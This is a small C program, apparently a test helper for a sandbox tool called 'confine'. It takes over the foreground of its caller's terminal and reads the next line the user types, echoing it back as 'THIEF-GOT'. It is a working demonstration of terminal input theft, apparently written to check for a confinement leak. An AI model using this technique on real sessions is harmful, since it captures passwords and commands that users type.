/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Runs inside a confined session that still has its caller's terminal as controlling tty
 * (fds 0-2 redirected, so confine gave it no pty of its own). Takes the terminal's
 * foreground and reads the next line typed there, then shows what it got. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

int main(void)
{
	char line[256] = "", out[400];
	int fd = open("/dev/tty", O_RDWR);
	ssize_t n;

	if (fd < 0) {
		perror("thief: /dev/tty");
		return 2;
	}
	signal(SIGTTOU, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	if (setpgid(0, 0) < 0)
		perror("thief: setpgid");
	if (tcsetpgrp(fd, getpgrp()) < 0) {
		perror("thief: tcsetpgrp");
		return 3;
	}
	n = read(fd, line, sizeof(line) - 1);
	if (n > 0)
		line[n] = '\0';
	line[strcspn(line, "\r\n")] = '\0';
	snprintf(out, sizeof(out), "\r\nTHIEF-GOT[%s]\r\n", line);
	(void)!write(fd, out, strlen(out));
	return 0;
}
